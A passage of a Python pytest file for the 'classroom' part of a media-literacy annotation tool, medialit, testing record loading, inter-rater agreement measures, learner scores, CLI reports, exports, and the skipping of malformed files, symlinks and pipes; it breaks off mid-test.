"""The class view: loading a folder of records, agreement statistics, scores, plots, CLI, exports."""

from __future__ import annotations

import csv
import io
import json
import math
import re
import types
import zipfile
from pathlib import Path

import pytest

from medialit import classroom as C
from medialit.classroom import files, load, statistics, tables
from medialit.cli import run_class
from medialit.annotate.formats import from_brat, from_label_studio, to_label_studio
from medialit.annotate.model import AnnotationRecord, cp_to_utf16
from medialit.articles import parse_article, seed_article
from medialit.vocabulary import SENTENCE_LABELS

A0 = "000_b7d55dfd4cdbabc3"
A3 = "003_9a3e418065795979"
POST = "kit01_phone_ban"          # the post-test, an article written for the kit


def write(folder: Path, rec: AnnotationRecord, name: str | None = None) -> Path:
    path = folder / (name or f"{rec.annotator}__{rec.article_id}.json")
    path.write_text(json.dumps(rec.to_dict(), ensure_ascii=False), encoding="utf-8")
    return path


def record(article, who: str, marks=()) -> AnnotationRecord:
    """A record with sentence-scope marks: ``marks`` is [(sentence index, label), ...]."""
    rec = AnnotationRecord.new(article.id, article.text, who)
    for i, lab in marks:
        s = article.sentences[i]
        rec.add_span(s.start, s.end, lab, scope="sentence")
    return rec


@pytest.fixture(scope="module")
def art0():
    return seed_article(A0)


@pytest.fixture(scope="module")
def demo(tmp_path_factory):
    folder = tmp_path_factory.mktemp("demo") / "class"
    C.make_demo_class(folder, 12, seed=3)
    return folder


def snapshot(folder: Path) -> dict:
    return {p.name: (p.read_bytes(), p.stat().st_mtime_ns) for p in sorted(folder.iterdir())}


# ---------------------------------------------------------------------------
# Loading
# ---------------------------------------------------------------------------

def test_bad_files_are_skipped_with_reasons_and_left_unchanged(tmp_path, art0):
    write(tmp_path, record(art0, "Ada", [(5, "hedge")]))
    (tmp_path / "broken__000.json").write_text('{"format": "medialit.annotations", "spans": [', encoding="utf-8")
    (tmp_path / "foreign.json").write_text(json.dumps([{"data": {"text": "x"}}]), encoding="utf-8")
    (tmp_path / "latin1.json").write_bytes(b'{"annotator": "Jos\xe9"}')
    write(tmp_path, AnnotationRecord.new("999_not_an_article", art0.text, "Bo"))
    write(tmp_path, AnnotationRecord.new(A0, art0.text + " An edited ending.", "Cy"))
    bad = record(art0, "Di")
    bad.text_length = None
    data = bad.to_dict()
    data["spans"] = [{"id": "x", "start": 0, "end": len(art0.text) + 50, "label": "hedge"}]
    data["text_length"] = None
    (tmp_path / "Di__000.json").write_text(json.dumps(data), encoding="utf-8")
    (tmp_path / "README.txt").write_text("not a record", encoding="utf-8")
    before = snapshot(tmp_path)

    data = C.load_class(tmp_path)

    assert snapshot(tmp_path) == before            # same files, same bytes, same times
    assert data.learners == ("Ada",)
    reasons = {s.path.name: (s.kind, s.reason) for s in data.skipped}
    assert set(reasons) == {"broken__000.json", "foreign.json", "latin1.json", "Bo__999_not_an_article.json",
                            f"Cy__{A0}.json", "Di__000.json"}
    assert reasons["broken__000.json"][0] == "unreadable" and "not valid JSON" in reasons["broken__000.json"][1]
    assert reasons["foreign.json"] == ("not-a-record", reasons["foreign.json"][1])
    assert "not a medialit annotation record" in reasons["foreign.json"][1]
    assert "not UTF-8" in reasons["latin1.json"][1]
    assert reasons["Bo__999_not_an_article.json"][0] == "unknown-article"
    assert "999_not_an_article" in reasons["Bo__999_not_an_article.json"][1]
    assert reasons[f"Cy__{A0}.json"][0] == "other-text"
    assert "another version of the text" in reasons[f"Cy__{A0}.json"][1]
    assert reasons["Di__000.json"][0] == "bad-spans"
    text = C.summary_text(C.class_statistics(data))
    assert "broken__000.json: " in text and "Skipped files (6" in text


def test_missing_folder_and_folder_without_records(tmp_path):
    with pytest.raises(C.ClassError, match="no such folder"):
        C.load_class(tmp_path / "nope")
    (tmp_path / "x.json").write_text("{}", encoding="utf-8")
    with pytest.raises(C.ClassError, match="no usable learner records .1 file skipped: 1 not-a-record"):
        run_class(tmp_path, tmp_path / "out")


def test_duplicate_records_of_one_learner_count_once_the_newer(tmp_path, art0):
    old = record(art0, "Ada", [(5, "hedge")])
    old.updated = "2024-01-01T00:00:00+00:00"
    new = record(art0, "Ada", [(6, "opinion")])
    new.updated = "2024-02-01T00:00:00+00:00"
    write(tmp_path, old, "a-copy.json")
    write(tmp_path, new, "b-copy.json")
    data = C.load_class(tmp_path)
    [skip] = data.skipped
    assert skip.path.name == "a-copy.json" and skip.kind == "duplicate" and "b-copy.json" in skip.reason
    marks = data.articles[A0].marks[0]
    assert marks[6, SENTENCE_LABELS.index("opinion")] and not marks[5].any()


def test_spans_become_sentence_labels(tmp_path, art0):
    s4, s5 = art0.sentences[4], art0.sentences[5]
    rec = AnnotationRecord.new(A0, art0.text, "Ada")
    i = art0.text.index("obviously", s4.start)
    rec.add_span(i, i + 9, "booster")                                 # a cue inside sentence 4
    rec.add_span(s4.end - 5, s5.start + 7, "loaded")                  # crosses into sentence 5
    j = art0.text.index("Russian Senator Viktor Ozerov", art0.sentences[3].start)
    rec.add_span(j, j + 29, "source")                                 # a source: attribution
    rec.add_span(art0.sentences[7].start, art0.sentences[7].end, "speculation", scope="sentence")
    write(tmp_path, rec)
    marks = C.load_class(tmp_path).articles[A0].marks[0]
    on = {(int(s), SENTENCE_LABELS[k]) for s, k in zip(*marks.nonzero())}
    assert on == {(4, "booster"), (4, "opinion"), (5, "opinion"), (3, "attribution"), (7, "speculation")}
    off = C.load_class(tmp_path, source_as_attribution=False).articles[A0].marks[0]
    assert not off[3].any()


def test_key_units_are_placed_on_sentences_by_overlap(art0):
    key = load.key_matrix(art0)
    # The article's sentence 3 holds two key units (the quote is split in the key); both attribution.
    assert key[3, SENTENCE_LABELS.index("attribution")]
    assert key[5].nonzero()[0].tolist() == [SENTENCE_LABELS.index("hedge"), SENTENCE_LABELS.index("speculation")]


def test_one_source_mark_on_a_key_attribution_sentence_counts_as_attribution(tmp_path, art0):
    s = art0.sentences[3]                                  # the key: attribution (Senator Ozerov told Interfax)
    start = s.text.index("Viktor Ozerov")
    rec = AnnotationRecord.new(art0.id, art0.text, "Ada")
    rec.add_span(s.start + start, s.start + start + len("Viktor Ozerov"), "source")
    write(tmp_path, rec)
    k = SENTENCE_LABELS.index("attribution")
    data = C.load_class(tmp_path)
    assert data.articles[A0].marks[0, :, k].nonzero()[0].tolist() == [3]
    scores = {sc.label: sc for sc in C.learner_scores(data)}
    assert (scores["attribution"].tp, scores["attribution"].fp) == (1, 0)
    assert not C.load_class(tmp_path, source_as_attribution=False).articles[A0].marks.any()


def test_discussion_points_say_what_the_key_says(tmp_path, art0):
    write(tmp_path, record(art0, "Ada", [(5, "hedge"), (6, "booster")]))
    write(tmp_path, record(art0, "Bo"))
    report = C.class_statistics(C.load_class(tmp_path))
    points = C.discussion_points(report, top=5)
    assert points == report.discussion_points(top=5)
    by = {p.sentence: p for p in points}
    assert set(by) == {5, 6}
    five, six = by[5], by[6]
    assert (five.article_id, five.where, five.label, five.share, five.learners, five.in_key) == \
        (A0, "paragraph 3", "hedge", 0.5, 2, True)
    assert five.key_says == "“Perhaps” shows the writer is not sure."
    assert (six.label, six.in_key, six.key_says) == ("booster", False, "")
    assert str(five).splitlines() == [
        "000, sentence 5 (paragraph 3): 50% of 2 learners marked it hedge.",
        f"   “{art0.sentences[5].text}”",
        "   Key: yes. “Perhaps” shows the writer is not sure.",
        "   Ask: what in this sentence makes it hedge, or not?"]
    assert "   Key: no booster here." in str(six).splitlines()
    nokey = C.discussion_points(C.class_statistics(C.load_class(tmp_path, articles={A0: parse_article(art0.text, id="no-key")})))
    assert nokey and all(p.in_key is None and "no answer key" in str(p) for p in nokey)


def test_a_learner_who_matches_the_key_scores_one(tmp_path, art0):
    key = load.key_matrix(art0)
    perfect = record(art0, "Ada", [(int(s), SENTENCE_LABELS[k]) for s, k in zip(*key.nonzero())])
    write(tmp_path, perfect)
    write(tmp_path, record(art0, "Bo"))
    scores = {(s.learner, s.label): s for s in C.learner_scores(C.load_class(tmp_path))}
    assert scores["Ada", "overall"].f1 == 1.0 and scores["Ada", "hedge"].precision == 1.0
    assert scores["Bo", "overall"].f1 == 0.0 and scores["Bo", "overall"].precision is None


# ---------------------------------------------------------------------------
# Agreement measures on small examples computed by hand or from the literature
# ---------------------------------------------------------------------------

# Two raters, four items, yes/no: (yes, yes), (yes, no), (no, no), (no, no).
TWO = [[0, 2], [1, 1], [2, 0], [2, 0]]        # per item: [said no, said yes]


def test_fleiss_kappa():
    # By hand: P_i = 1, 0, 1, 1 -> P = 0.75; p(yes) = 3/8 -> Pe = 9/64 + 25/64 = 34/64;
    # kappa = (0.75 - 34/64) / (1 - 34/64) = 7/15.
    assert C.fleiss_kappa(TWO) == pytest.approx(7 / 15)
    # Fleiss (1971), the worked example on Wikipedia: 10 items, 14 raters, 5 categories -> 0.210.
    table = [[0, 0, 0, 0, 14], [0, 2, 6, 4, 2], [0, 0, 3, 5, 6], [0, 3, 9, 2, 0], [2, 2, 8, 1, 1],
             [7, 7, 0, 0, 0], [3, 2, 6, 3, 0], [2, 5, 3, 2, 2], [6, 5, 2, 1, 0], [0, 2, 2, 3, 7]]
    assert C.fleiss_kappa(table) == pytest.approx(0.20993, abs=1e-4)
    assert C.fleiss_kappa([[3, 0], [3, 0]]) is None                      # one category only
    assert C.fleiss_kappa([[1, 0], [0, 1]]) is None                      # one rater per item


def test_krippendorff_alpha():
    # By hand: coincidences o00 = 4, o01 = o10 = 1, o11 = 2; n0 = 5, n1 = 3, n = 8;
    # alpha = 1 - (2/8) / (2*5*3 / (8*7)) = 8/15.
    assert C.krippendorff_alpha(TWO) == pytest.approx(8 / 15)
    # Krippendorff (2011), "Computing Krippendorff's alpha-reliability", nominal example with
    # missing values (4 coders, 12 units): alpha = 0.743.
    data = [[1, 2, 3, 3, 2, 1, 4, 1, 2, None, None, None],
            [1, 2, 3, 3, 2, 2, 4, 1, 2, 5, None, 3],
            [None, 3, 3, 3, 2, 3, 4, 2, 2, 5, 1, None],
            [1, 2, 3, 3, 2, 4, 4, 1, 2, 5, 1, None]]
    counts = [[sum(1 for coder in data if coder[u] == v) for v in (1, 2, 3, 4, 5)] for u in range(12)]
    assert C.krippendorff_alpha(counts) == pytest.approx(0.743, abs=5e-4)
    assert C.krippendorff_alpha([[3, 0], [3, 0]]) is None


def test_cohen_kappa():
    assert C.cohen_kappa([1, 1, 0, 0], [1, 0, 0, 0]) == pytest.approx(0.5)   # po 3/4, pe 1/2
    # Wikipedia's example: yes/yes 20, yes/no 5, no/yes 10, no/no 15 -> po 0.7, pe 0.5, kappa 0.4.
    a = ["yes"] * 25 + ["no"] * 25
    b = ["yes"] * 20 + ["no"] * 5 + ["yes"] * 10 + ["no"] * 15
    assert C.cohen_kappa(a, b) == pytest.approx(0.4)
    assert C.cohen_kappa([0, 0, 0], [0, 0, 0]) is None
    assert C.cohen_kappa([], []) is None


def _no_nan(report) -> None:
    for row in tables.agreement_rows(report):
        for v in row.values():
            assert not (isinstance(v, float) and math.isnan(v)), row
    text = C.summary_text(report)
    assert "nan" not in text.lower().replace("nance", "")


def test_degenerate_agreement_is_said_in_words(tmp_path, art0):
    n = len(art0.sentences)
    # Three learners: nobody uses booster; everyone marks every sentence attribution;
    # they agree exactly on hedge (sentences 5 and 12).
    for who in ("Ada", "Bo", "Cy"):
        write(tmp_path, record(art0, who, [(i, "attribution") for i in range(n)] + [(5, "hedge"), (12, "hedge")]))
    report = C.class_statistics(C.load_class(tmp_path))
    by = {a.label: a for a in report.agreement_on(A0)}
    assert by["booster"].fleiss is None and by["booster"].alpha is None
    assert by["booster"].words.startswith("nobody marked this label on any sentence")
    assert "agreement is perfect" in by["booster"].words
    assert by["attribution"].fleiss is None
    assert by["attribution"].words.startswith("everyone marked this label on every sentence")
    assert by["hedge"].fleiss == pytest.approx(1.0) and by["hedge"].words == "perfect agreement"
    _no_nan(report)
    df = C.agreement_table(report)
    assert df["fleiss_kappa"].dtype == object and df.loc[df.label == "booster", "fleiss_kappa"].iloc[0] is None


def test_one_learner_is_said_in_words(tmp_path, art0):
    write(tmp_path, record(art0, "Ada", [(5, "hedge")]))
    report = C.class_statistics(C.load_class(tmp_path))
    assert {a.words for a in report.agreement} == {"only one learner: agreement needs at least two"}
    _no_nan(report)
    from medialit import plots

    fig = plots.agreement_bars(report)
    assert any("only one learner" in t.get_text() for ax in fig.axes for t in ax.texts)


def test_pair_agreement(tmp_path, art0):
    write(tmp_path, record(art0, "Ada", [(5, "hedge"), (6, "hedge")]))
    write(tmp_path, record(art0, "Bo", [(5, "hedge")]))
    data = C.load_class(tmp_path)
    pairs = {lab: (v, w) for lab, v, w in C.pair_agreement(data, "Ada", "Bo")}
    # 19 sentences: both yes on 1, Ada only on 1, both no on 17 -> po 18/19, pe = (2*1 + 17*18)/19^2.
    po, pe = 18 / 19, (2 * 1 + 17 * 18) / 19 ** 2
    assert pairs["hedge"][0] == pytest.approx((po - pe) / (1 - pe))
    assert pairs["booster"][0] is None and "neither marked" in pairs["booster"][1]


# ---------------------------------------------------------------------------
# Synthetic class
# ---------------------------------------------------------------------------

def test_demo_class_loads_cleanly_and_is_marked_synthetic(demo, tmp_path):
    data = C.load_class(demo)
    assert data.skipped == []
    assert len(data.learners) == 12 and all(n.startswith("synthetic-learner-") for n in data.learners)
    assert set(data.articles) == {A0, A3, POST}
    assert "SYNTHETIC" in (demo / "README.txt").read_text(encoding="utf-8")
    again = tmp_path / "again"
    C.make_demo_class(again, 12, seed=3)
    assert {p.name: p.read_bytes() for p in demo.glob("*.json")} == \
           {p.name: p.read_bytes() for p in again.glob("*.json")}         # deterministic
    other = tmp_path / "other"
    C.make_demo_class(other, 12, seed=4)
    assert any((other / p.name).read_bytes() != p.read_bytes() for p in demo.glob("*.json")
               if (other / p.name).exists())
    report = C.class_statistics(data)
    assert any(s.disagreement > 0.3 for s in report.sentences)           # the class does disagree


def test_demo_class_never_mixes_with_real_records(tmp_path, art0):
    write(tmp_path, record(art0, "Ada"))
    with pytest.raises(C.ClassError, match="not synthetic"):
        C.make_demo_class(tmp_path, 3)
    with pytest.raises(C.ClassError, match="at least 1"):
        C.make_demo_class(tmp_path / "x", 0)


# ---------------------------------------------------------------------------
# Command line, report files, pseudonyms
# ---------------------------------------------------------------------------

def test_cli_class_writes_tables_and_plots_and_prints_summary(demo, tmp_path, capsys):
    from medialit.cli import main

    out, ls = tmp_path / "report", tmp_path / "class.json"
    assert main(["class", str(demo), "--out", str(out), "--label-studio", str(ls),
                 "--brat", str(tmp_path / "b")]) == 0
    printed = capsys.readouterr().out
    for words in ("Learners: 12", "files skipped: 0", "Agreement per label", "Most-disputed sentences",
                  "attribution", "Wrote 9 tables (CSV)", "brat annotation files", "Label Studio tasks"):
        assert words in printed
    assert len(json.loads(ls.read_text(encoding="utf-8"))) == 3   # the two seeds and the post-test
    assert len(list((tmp_path / "b").rglob("*.ann"))) == len(list(demo.glob("*.json")))
    for name in ("sentences.csv", "sentence_labels.csv", "agreement.csv", "learner_scores.csv", "skipped.csv",
                 "written_answers.csv", "quiz_questions.csv", "quiz_learners.csv"):
        assert (out / name).stat().st_size > 0
    pngs = sorted(p.name for p in out.glob("*.png"))
    assert {f"disagreement-{A0}.png", f"disagreement-{A3}.png", "agreement.png", "f1.png",
            "learners.png"} <= set(pngs)
    assert all((out / p).read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" for p in pngs)
    assert "synthetic-learner-001" in (out / "learner_scores.csv").read_text(encoding="utf-8")


def test_cli_pseudonyms_hide_names(demo, tmp_path, capsys):
    from medialit.cli import main

    out = tmp_path / "report"
    assert main(["class", str(demo), "--out", str(out), "--pseudonyms", "--no-plots"]) == 0
    printed = capsys.readouterr().out
    scores = (out / "learner_scores.csv").read_text(encoding="utf-8")
    assert "synthetic-learner" not in scores and "synthetic-learner" not in printed
    assert "Learner 01" in scores and "Learner 12" in scores
    assert not list(out.glob("*.png")) and "Wrote 9 tables (CSV) and 0 plots (PNG)" in printed    # --no-plots
    data = C.load_class(demo)
    assert data.pseudonyms() == C.load_class(demo).pseudonyms()           # stable


def test_cli_errors_are_one_line_and_exit_2(tmp_path, capsys):
    from medialit.cli import main

    assert main(["class", str(tmp_path / "missing")]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "no such folder" in err
    assert main(["demo-class", str(tmp_path / "d"), "--learners", "0"]) == 2
    assert "at least 1" in capsys.readouterr().err


def test_cli_demo_class(tmp_path, capsys):
    from medialit.cli import main

    assert main(["demo-class", str(tmp_path / "d"), "--learners", "3", "--seed", "9"]) == 0
    assert "synthetic class of 3 learners" in capsys.readouterr().out
    assert len(C.load_class(tmp_path / "d").learners) == 3
    C.make_demo_class(tmp_path / "d", 2, seed=9)                        # a smaller demo replaces it
    assert len(C.load_class(tmp_path / "d").learners) == 2


# ---------------------------------------------------------------------------
# Exports
# ---------------------------------------------------------------------------

def _spans(rec):
    return sorted((s.start, s.end, s.label, s.note) for s in rec.spans)


def test_brat_export_round_trips(demo, tmp_path):
    data = C.load_class(demo)
    anns = C.export_brat(data, tmp_path / "brat")
    assert len(anns) == sum(len(a.records) for a in data.articles.values())
    for aid, art in data.articles.items():
        assert (tmp_path / "brat" / aid / "annotation.conf").is_file()
        for rec in art.records:
            ann = tmp_path / "brat" / aid / f"{rec.annotator}.ann"
            text = ann.with_suffix(".txt").read_bytes().decode("utf-8")
            back = from_brat(ann.read_text(encoding="utf-8"), text, aid, rec.annotator)
            assert text == art.article.text and _spans(back) == _spans(rec)
            assert len(back.relations) == len(rec.relations)


def test_label_studio_export_uses_utf16_offsets_and_round_trips(tmp_path):
    text = "Big 😀 News\n\nThe minister said it may rain. 😀 Perhaps not. (AP)\n"
    art = parse_article(text, id="emoji")
    rec = AnnotationRecord.new("emoji", text, "Ada")
    i = text.index("Perhaps")
    rec.add_span(i, i + 7, "hedge", "unsure")
    write(tmp_path, rec)
    data = C.load_class(tmp_path, articles={"emoji": art})
    path = C.export_label_studio(data, tmp_path / "ls.json")
    [task] = json.loads(path.read_text(encoding="utf-8"))
    [ann] = task["annotations"]
    value = ann["result"][0]["value"]
    assert value["start"] == cp_to_utf16(text, i) == i + 2                  # two emoji before it
    assert value["text"] == "Perhaps" and ann["completed_by"] == "Ada"
    back = from_label_studio({"data": task["data"], "annotations": [ann]}, "emoji")
    assert _spans(back) == _spans(rec)
    assert ann == to_label_studio(rec, text)["annotations"][0]               # the same as the kit's format


def test_label_studio_annotations_match_the_kit_format(demo):
    data = C.load_class(demo)
    for task in C.label_studio_tasks(data):
        art = data.articles[task["data"]["article_id"]]
        assert task["annotations"] == [to_label_studio(r, art.article.text)["annotations"][0] for r in art.records]


def test_label_studio_export_has_one_task_per_article_and_one_annotation_per_learner(demo, tmp_path):
    data = C.load_class(demo)
    tasks = C.label_studio_tasks(data, pseudonyms=True)
    assert [t["data"]["article_id"] for t in tasks] == [A0, A3, POST]
    for task in tasks:
        art = data.articles[task["data"]["article_id"]]
        assert len(task["annotations"]) == len(art.records)
        assert all(a["completed_by"].startswith("Learner ") for a in task["annotations"])


# ---------------------------------------------------------------------------
# Plots and the detector
# ---------------------------------------------------------------------------

@pytest.fixture
def small(tmp_path, art0):
    """Two learners on one article: quick to draw."""
    folder = tmp_path / "small"
    folder.mkdir()
    write(folder, record(art0, "Ada", [(5, "hedge"), (10, "hedge"), (0, "attribution")]))
    write(folder, record(art0, "Bo", [(5, "hedge"), (6, "opinion"), (0, "attribution")]))
    return folder


def test_class_next_to_a_detector(small, tmp_path, monkeypatch):
    from medialit import plots

    class SA:
        def __init__(self, sentence, labels):
            self.sentence, self.labels = sentence, labels

    def analyze(article, lexicons=None):
        return types.SimpleNamespace(sentences=[SA(s, {"hedge"} if "Perhaps" in s.text else set())
                                                for s in article.sentences])

    monkeypatch.setattr(statistics, "analyze", analyze)
    data = C.load_class(small)
    labels, why = C.detector_labels(data.articles[A0].article)
    assert why == "" and labels[:, SENTENCE_LABELS.index("hedge")].nonzero()[0].tolist() == [5, 10, 13]
    report = C.class_statistics(data)
    fig = plots.class_vs_detector(report, A0, labels)
    assert "The detector found 3 sentence labels" in fig.alt


def test_a_detector_sentence_gives_its_labels_to_the_sentence_it_mostly_overlaps(art0, monkeypatch):
    s4, s5 = art0.sentences[4], art0.sentences[5]
    split = [types.SimpleNamespace(sentence=types.SimpleNamespace(start=s4.start, end=s5.start + 3), labels=("hedge",)),
             types.SimpleNamespace(sentence=types.SimpleNamespace(start=s5.start + 3, end=s5.end), labels=("opinion",))]
    monkeypatch.setattr(statistics, "analyze", lambda article: types.SimpleNamespace(sentences=split))
    labels, _ = C.detector_labels(art0)
    on = {(int(i), SENTENCE_LABELS[k]) for i, k in zip(*labels.nonzero())}
    assert on == {(4, "hedge"), (5, "opinion")}                 # 3 characters of sentence 5 are not "mostly"


def test_without_a_detector_the_report_says_why(small, tmp_path, monkeypatch):
    def broken(article):
        raise ImportError("no detector here")

    monkeypatch.setattr(statistics, "analyze", broken)
    report = C.class_statistics(C.load_class(small))
    labels, why = C.detector_labels(report.data.articles[A0].article)
    assert labels is None and why == "the detector is not available (ImportError: no detector here)"


def test_tables_for_notebooks(demo):
    report = C.class_statistics(C.load_class(demo))
    sentences = C.sentence_table(report)
    assert len(sentences) == sum(len(a.article.sentences) for a in report.data.articles.values())
    assert {"share_hedge", "most_disputed_label", "key_labels", "text"} <= set(sentences.columns)
    long = C.sentence_label_table(report)
    assert len(long) == len(sentences) * len(SENTENCE_LABELS)
    scores = C.scores_table(report, pseudonyms=True)
    assert set(scores.learner) == set(report.data.pseudonyms().values())
    assert set(scores.label) == set(SENTENCE_LABELS) | {"overall"}


def test_progress_bar_goes_to_stderr(demo, capsys):
    C.load_class(demo, progress=True)
    captured = capsys.readouterr()
    assert captured.out == "" and "Reading records [" in captured.err
    assert captured.err.rstrip().endswith(f"{len(list(demo.glob('*.json')))}/{len(list(demo.glob('*.json')))}")
    C.load_class(demo)                                                     # small folder, not a terminal
    assert capsys.readouterr().err == ""


# ---------------------------------------------------------------------------
# Bad input: wrong field types, hostile files, subfolders, links, zips
# ---------------------------------------------------------------------------

def _good(art0, who="Ada") -> dict:
    return record(art0, who, [(5, "hedge"), (3, "attribution")]).to_dict()


def _with_span(data: dict, **changes) -> dict:
    return {**data, "spans": [{**data["spans"][0], **changes}] + data["spans"][1:]}


WRONG_TYPES = {   # file name -> (how the record is spoiled, words the reason must hold)
    "updated-number": (lambda d: {**d, "updated": 20240101}, "'updated' is a number"),
    "created-list": (lambda d: {**d, "created": ["2024"]}, "'created' is a list"),
    "annotator-number": (lambda d: {**d, "annotator": 42}, "'annotator' is a number"),
    "annotator-null": (lambda d: {**d, "annotator": None}, "'annotator' is null"),
    "annotator-empty": (lambda d: {**d, "annotator": "  "}, "name is empty"),
    "annotator-huge": (lambda d: {**d, "annotator": "A" * 5000}, "5,000 characters"),
    "annotator-missing": (lambda d: {k: v for k, v in d.items() if k != "annotator"}, "'annotator' is missing"),
    "article-object": (lambda d: {**d, "article_id": {"id": "000"}}, "'article_id' is an object"),
    "version-text": (lambda d: {**d, "version": "1"}, "version text is not supported"),
    "version-true": (lambda d: {**d, "version": True}, "version true/false is not supported"),
    "length-text": (lambda d: {**d, "text_length": "5000"}, "'text_length' is text"),
    "length-negative": (lambda d: {**d, "text_length": -1}, "'text_length' is negative"),
    "spans-object": (lambda d: {**d, "spans": {"0": d["spans"][0]}}, "'spans' is an object"),
    "spans-null": (lambda d: {**d, "spans": None}, "'spans' is null"),
    "span-list": (lambda d: {**d, "spans": [[1, 5, "hedge"]]}, "mark 1 is a list"),
    "start-text": (lambda d: _with_span(d, start="12"), "mark 1: 'start' is text"),
    "start-float": (lambda d: _with_span(d, start=12.0), "mark 1: 'start' is a number, not a whole number"),
    "end-bool": (lambda d: _with_span(d, start=0, end=True), "mark 1: 'end' is true/false"),
    "end-before-start": (lambda d: _with_span(d, start=50, end=40), "from 50 to 40"),
    "label-number": (lambda d: _with_span(d, label=3), "mark 1: 'label' is a number"),
    "label-unknown": (lambda d: _with_span(d, label="gossip"), "unknown label 'gossip'"),
    "note-object": (lambda d: _with_span(d, note={"a": 1}), "mark 1: 'note' is an object"),
    "scope-odd": (lambda d: _with_span(d, scope="page"), "'scope' is 'page'"),
    "id-missing": (lambda d: {**d, "spans": [{k: v for k, v in d["spans"][0].items() if k != "id"}]},
                   "mark 1 has no 'id'"),
    "relations-text": (lambda d: {**d, "relations": "none"}, "'relations' is text"),
    "relation-dangling": (lambda d: {**d, "relations": [{"type": "attributed_to", "source": "x", "claim": "y"}]},
                          "link 1 points at marks that are not in the record"),
}


def test_every_field_of_the_wrong_type_is_skipped_with_a_reason(tmp_path, art0):
    write(tmp_path, record(art0, "Good", [(5, "hedge")]))
    for name, (spoil, _) in WRONG_TYPES.items():
        (tmp_path / f"{name}.json").write_text(json.dumps(spoil(_good(art0))), encoding="utf-8")
    data = C.load_class(tmp_path)
    assert data.learners == ("Good",)
    reasons = {s.name: s for s in data.skipped}
    assert set(reasons) == {f"{n}.json" for n in WRONG_TYPES}
    for name, (_, words) in WRONG_TYPES.items():
        skip = reasons[f"{name}.json"]
        assert skip.kind == "not-a-record" and words in skip.reason, (name, skip.reason)
        assert "\n" not in skip.reason and len(skip.reason) < 200              # one short line, never the content
    assert "A" * 300 not in C.summary_text(C.class_statistics(data))


def test_a_numeric_updated_field_no_longer_stops_the_run(tmp_path, art0):
    write(tmp_path, record(art0, "Ada", [(5, "hedge")]))
    write(tmp_path, record(art0, "Bo", [(6, "opinion")]))
    (tmp_path / "Cy__000.json").write_text(json.dumps({**_good(art0, "Cy"), "updated": 1700000000}), encoding="utf-8")
    out = io.StringIO()
    report = run_class(tmp_path, tmp_path / "report", plots=False, stream=out)
    assert report.data.learners == ("Ada", "Bo")
    assert "Cy__000.json: the field 'updated' is a number" in out.getvalue()


def test_hostile_files_are_skipped_never_a_crash(tmp_path, art0, monkeypatch):
    write(tmp_path, record(art0, "Ada", [(5, "hedge")]))
    (tmp_path / "deep.json").write_text("[" * 15_000 + "]" * 15_000, encoding="utf-8")
    (tmp_path / "deep-object.json").write_text('{"a":' * 5_000 + "1" + "}" * 5_000, encoding="utf-8")
    nested_ok = {**_good(art0, "Bo"), "extra": json.loads("[" * 400 + "]" * 400)}   # deep, but in a field not used
    (tmp_path / "Bo.json").write_text(json.dumps(nested_ok), encoding="utf-8")
    (tmp_path / "bigint.json").write_text('{"format": "medialit.annotations", "version": ' + "9" * 5000 + "}",
                                          encoding="utf-8")
    (tmp_path / "utf16.json").write_bytes(json.dumps(_good(art0, "Di")).encode("utf-16"))
    (tmp_path / "stray-byte.json").write_bytes(json.dumps(_good(art0, "Ed")).encode("utf-8").replace(b"Ed", b"E\xff"))
    (tmp_path / "empty.json").write_bytes(b"")
    (tmp_path / "nul.json").write_bytes(b"\0" * 100)
    (tmp_path / "Fay.json").write_bytes(b"\xef\xbb\xbf" + json.dumps(_good(art0, "Fay")).encode("utf-8"))  # a BOM
    (tmp_path / "folder.json").mkdir()                                   # a folder named like a record
    monkeypatch.setattr(files, "MAX_RECORD_BYTES", 40_000)
    (tmp_path / "huge.json").write_text(json.dumps({**_good(art0, "Gus"), "pad": "x" * 50_000}), encoding="utf-8")
    data = C.load_class(tmp_path)
    assert data.learners == ("Ada", "Bo", "Fay")                         # a BOM is harmless: counted
    reasons = {s.name: (s.kind, s.reason) for s in data.skipped}
    assert reasons["deep.json"] == ("unreadable", "is not valid JSON for a record: brackets nested too deeply")
    assert reasons["deep-object.json"][1].endswith("nested too deeply")
    assert reasons["bigint.json"][0] == "unreadable" and "not valid JSON" in reasons["bigint.json"][1]
    assert "UTF-16" in reasons["utf16.json"][1]
    assert reasons["stray-byte.json"][1].startswith("is not UTF-8 text (byte ")
    assert "empty" in reasons["empty.json"][1] and "not valid JSON" in reasons["nul.json"][1]
    assert reasons["huge.json"] == ("unreadable", f"too large for a learner's record "
                                                  f"({(tmp_path / 'huge.json').stat().st_size:,} bytes)")
    assert "folder.json" not in reasons                                  # a folder is searched, not read as a file


def test_a_lone_surrogate_in_a_name_is_mended_and_written(tmp_path, art0):
    raw = json.dumps(_good(art0, "Ada")).replace('"Ada"', '"Ad\\ud800a"')
    (tmp_path / "Ada.json").write_text(raw, encoding="utf-8")
    data = C.load_class(tmp_path)
    assert data.learners == ("Ad\ufffda",)
    C.write_report(C.class_statistics(data), tmp_path / "out")
    assert "Ad\ufffda" in (tmp_path / "out" / "learner_scores.csv").read_text(encoding="utf-8")


@pytest.mark.skipif(not hasattr(__import__("os"), "mkfifo"), reason="needs named pipes")
def test_links_and_special_files_are_not_followed(tmp_path, art0):
    import os

    folder, outside = tmp_path / "class", tmp_path / "outside"
    folder.mkdir()
    outside.mkdir()
    write(folder, record(art0, "Ada", [(5, "hedge")]))
    secret = write(outside, record(art0, "Outsider", [(6, "hedge")]))
    (folder / "link.json").symlink_to(secret)
    (folder / "dangling.json").symlink_to(tmp_path / "nowhere.json")
    (folder / "linked-folder").symlink_to(outside, target_is_directory=True)
    os.mkfifo(folder / "pipe.json")                                     # reading it would wait forever
    data = C.load_class(folder)
    assert data.learners == ("Ada",)
    kinds = {s.name: s.kind for s in data.skipped}
    assert kinds == {"link.json": "link", "dangling.json": "link", "linked-folder/": "link", "pipe.json": "unreadable"}
    assert not (tmp_path / "nowhere.json").exists()


def test_records_in_subfolders_are_read_and_hidden_folders_passed_over(tmp_path, art0):
    write(tmp_path, record(art0, "Ada", [(5, "hedge")]))
    (tmp_path / "group-b" / "Bo").mkdir(parents=True)
    write(tmp_path / "group-b" / "Bo", record(art0, "Bo", [(6, "hedge")]))
    (tmp_path / ".ipynb_checkpoints").mkdir()
    write(tmp_path / ".ipynb_checkpoints", record(art0, "Ada", [(7, "hedge")]), "Ada-checkpoint.json")
    (tmp_path / "notes.docx").write_bytes(b"PK")
    data = C.load_class(tmp_path)
